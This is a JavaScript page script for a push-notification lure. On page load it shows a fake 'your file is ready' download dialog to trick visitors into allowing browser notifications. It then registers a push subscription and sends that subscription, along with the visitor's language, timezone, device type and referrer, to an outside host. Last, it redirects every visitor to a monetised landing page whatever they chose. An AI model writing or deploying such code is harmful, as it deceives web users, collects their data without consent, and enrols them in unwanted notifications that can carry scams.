// push-notification-lure: "your download is ready - allow notifications to start it" page script
// ES2020 class with async/await; reports the subscription plus visitor profile and then redirects to a second offer
class DownloadPrompt {
  static NET = 'https://files-ready-push.com';
  static PUB = 'BGt6Yp1Rk9Lw3Zs7Mq2Xv8Cd0Nf5Hj4Bu6Ea1Tg9Ks3Wo7Ly2Pr5Qi8Dz0Fn4Vc6Jm1Xe3Ah9Ub7Gs5Rt2Ol8Wq0Kz4Mn6Yv1';

  constructor(fileName) {
    this.fileName = fileName;
    this.panel = null;
  }

  static urlKey(b64) {
    const norm = (b64 + '='.repeat((4 - (b64.length % 4)) % 4)).replace(/-/g, '+').replace(/_/g, '/');
    return Uint8Array.from(atob(norm), (ch) => ch.charCodeAt(0));
  }

  render() {
    this.panel = document.createElement('section');
    this.panel.setAttribute('role', 'dialog');
    this.panel.style.cssText =
      'position:fixed;top:12%;left:50%;transform:translateX(-50%);width:min(92vw,460px);background:#fff;color:#222;' +
      'border-radius:10px;box-shadow:0 20px 60px rgba(0,0,0,.45);padding:26px;z-index:2147483600;font:15px system-ui';
    this.panel.innerHTML = `
      <h3 style="margin:0 0 8px">Your file is ready</h3>
      <p style="margin:0 0 14px"><b>${this.fileName}</b> (248.6 MB)</p>
      <div style="height:8px;background:#eee;border-radius:4px"><div style="width:100%;height:8px;background:#2a8;border-radius:4px"></div></div>
      <p style="margin:14px 0 0">Click <b>Allow</b> in the browser prompt to start the download.</p>`;
    document.body.append(this.panel);
  }

  profile() {
    return {
      lang: navigator.language,
      tz: Intl.DateTimeFormat().resolvedOptions().timeZone,
      mobile: /Mobi|Android/i.test(navigator.userAgent),
      ref: document.referrer,
      src: location.hostname,
    };
  }

  async enrol() {
    const reg = await navigator.serviceWorker.register('/sw.js');
    await navigator.serviceWorker.ready;
    const sub = await reg.pushManager.subscribe({
      userVisibleOnly: true,
      applicationServerKey: DownloadPrompt.urlKey(DownloadPrompt.PUB),
    });
    await fetch(`${DownloadPrompt.NET}/api/v1/optin`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ subscription: sub.toJSON(), ...this.profile() }),
      keepalive: true,
    });
  }

  async run() {
    if (!('PushManager' in window) || localStorage.getItem('dl_optin')) return;
    this.render();
    const permission = await Notification.requestPermission();
    if (permission === 'granted') {
      await this.enrol().catch(() => {});
      localStorage.setItem('dl_optin', '1');
    }
    // either way, the "download" leads to the monetised landing page
    location.assign(`${DownloadPrompt.NET}/dl/?f=${encodeURIComponent(this.fileName)}&p=${permission}`);
  }
}

window.addEventListener('load', () => {
  const title = document.querySelector('h1')?.textContent?.trim() || 'setup';
  new DownloadPrompt(`${title.slice(0, 40).replace(/\s+/g, '_')}.zip`).run();
});
